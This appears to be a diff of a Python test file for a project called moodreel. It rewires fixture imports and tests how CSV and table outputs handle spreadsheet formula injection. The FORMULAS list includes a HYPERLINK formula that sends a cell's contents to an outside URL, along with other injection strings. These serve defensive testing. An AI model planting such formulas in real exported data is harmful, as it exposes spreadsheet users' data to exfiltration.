@@ -7,6 +7,7 @@ import json
 import pyarrow.parquet as parquet
 import pytest
 
+from cli_runs import bundles_fixture, place_fixture, run_fixture  # noqa: F401 (fixtures)
 from moodreel.errors import DataError
 from moodreel.lab.data.gifgif import read_scores
 from moodreel.lab.data.manifest import Row, read_manifest, write_manifest
@@ -16,7 +17,6 @@ from moodreel.runtime.table import list_columns, make_row, open_table
 from moodreel.runtime.trace_files import read_ratings
 from moodreel.types import Result
 from runtime.tiny import RED, draw_gif
-from test_cli import bundles, place, run  # noqa: F401 (fixtures)
 
 FORMULAS = [
     '=HYPERLINK("http://example.org?"&A1,"see")', "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\nx",
@@ -75,7 +75,7 @@ def test_result_tables(tmp_path, suffix):
         assert [row["path"] for row in rows] == FORMULAS + PLAIN
 
 
-def test_files_named_like_formulas_keep_their_rows(run, place, monkeypatch):  # noqa: F811
+def test_files_named_like_formulas_keep_their_rows(run, place, monkeypatch):
     names = ["=1+1.gif", "+x.gif", "@y.gif", "'=z.gif", "plain.gif"]
     for name in names:
         draw_gif(place / "odd" / name, RED)
@@ -95,7 +95,7 @@ def test_files_named_like_formulas_keep_their_rows(run, place, monkeypatch):  # 
                                              "plain.gif"]  # fmt: skip
 
 
-def test_scores_of_votes(run, place):  # noqa: F811
+def test_scores_of_votes(run, place):
     votes = "emotion,left,right,choice\n" + 'anger,=1+1,"@x",left\nanger,\'tis,@x,right\nfear,+a,-b,left\n'
     (place / "votes.csv").write_text(votes)
     run("votes", "score", "votes.csv", "--out", "scores.csv")
